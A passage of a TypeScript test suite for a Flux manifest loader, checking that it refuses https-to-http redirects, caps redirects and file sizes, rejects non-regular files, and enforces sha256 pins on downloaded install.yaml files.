    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: "https://mirror.example/down.yaml", fetch: fake }), {
      message: "cannot download Flux manifests from https://mirror.example/down.yaml: it redirects from https to http://127.0.0.1/install.yaml; " +
        "give an https URL that stays on https, or a local file",
    });
    const loaded = await loadFluxManifests({ version: "v2.7.5", manifests: "https://mirror.example/old.yaml", fetch: fake });
    assert.equal(loaded.text, FIXTURE_TEXT);
    assert.deepEqual(contacted, ["https://mirror.example/down.yaml", "https://mirror.example/old.yaml", "https://mirror.example/install.yaml"]);
  });

  it("stops after five redirects", async () => {
    const s = await serve((req, res) => { res.statusCode = 307; res.setHeader("location", `/r${req.url}`); res.end(); });
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/install.yaml`, ...fast }), {
        message: `cannot download Flux manifests from ${s.base}/install.yaml: more than 5 redirects; give the URL the redirects end at, or a local file`,
      });
      assert.equal(s.requests.length, 6);
    } finally {
      await s.close();
    }
  });

  it("pins the bytes with sha256, from a file or a URL", async () => {
    const pinned = await loadFluxManifests({ version: "v2.7.5", manifests: FIXTURE, sha256: sha256(FIXTURE_TEXT) });
    assert.equal(pinned.text, FIXTURE_TEXT);
    const wrong = "0".repeat(64);
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: FIXTURE, sha256: wrong }), {
      message: `${FIXTURE}: its sha256 is ${sha256(FIXTURE_TEXT)}, but flux.manifestsSha256 pins ${wrong}; ` +
        "the manifests are not the ones pinned: find out why before you change the pin",
    });
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: FIXTURE, sha256: "ABC" }), {
      message: "flux.manifestsSha256 is not a SHA-256 digest; give the 64 lower-case hex digits `sha256sum install.yaml` prints",
    });
    // renderFlux (and so FluxBootstrap) checks a pin on the text it is given.
    assert.doesNotThrow(() => renderFlux({ ...renderInput(FIXTURE_TEXT), manifestsSha256: sha256(FIXTURE_TEXT) }));
    assert.throws(() => renderFlux({ ...renderInput(FIXTURE_TEXT), manifestsSha256: wrong }), {
      message: `install.yaml: its sha256 is ${sha256(FIXTURE_TEXT)}, but flux.manifestsSha256 pins ${wrong}; ` +
        "the manifests are not the ones pinned: find out why before you change the pin",
    });
    const s = await serve((_req, res) => res.end(FIXTURE_TEXT));
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/install.yaml`, sha256: wrong }), {
        message: `${s.base}/install.yaml: its sha256 is ${sha256(FIXTURE_TEXT)}, but flux.manifestsSha256 pins ${wrong}; ` +
          "the manifests are not the ones pinned: find out why before you change the pin",
      });
    } finally {
      await s.close();
    }
  });

  it("asks for a pin when a copy of a release's install.yaml cannot tell its version", async () => {
    const text = fs.readFileSync(RELEASE_294, "utf8");
    await assert.rejects(loadFluxManifests({ version: "v2.9.4", manifests: RELEASE_294 }), {
      message: `${RELEASE_294}: no object carries the app.kubernetes.io/version label, so nothing says which Flux release it is ` +
        "(a release's install.yaml has none; `flux install --export` writes them); " +
        `check its sha256, ${sha256(text)}, against flux_2.9.4_checksums.txt of Flux v2.9.4, then pin it with flux.manifestsSha256`,
    });
    assert.equal((await loadFluxManifests({ version: "v2.9.4", manifests: RELEASE_294, sha256: sha256(text) })).text, text);
    // The release's own URL names its version: no pin needed.
    const fromRelease: typeof fetch = (input) => Promise.resolve(String(input) === releaseManifestUrl("v2.9.4") ? new Response(text) : new Response(null, { status: 404 }));
    const loaded = await loadFluxManifests({ version: "v2.9.4", fetch: fromRelease });
    assert.equal(loaded.source, releaseManifestUrl("v2.9.4"));
    assert.equal(loaded.text, text);
  });

  it("caps local files too, and refuses what is not a regular file", async () => {
    const big = path.join(dir, "big.yaml");
    fs.writeFileSync(big, "a".repeat(5000));
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: big, maxBytes: 4096 }), {
      message: `Flux manifests file ${big} is larger than 4096 bytes; a Flux install.yaml is 1-3 MiB: check that flux.manifests names one`,
    });
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: "/dev/zero" }), {
      message: "Flux manifests file /dev/zero is not a regular file; set flux.manifests to an install.yaml",
    });
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: dir }), {
      message: `Flux manifests file ${dir} is not a regular file; set flux.manifests to an install.yaml`,
    });
  });
});
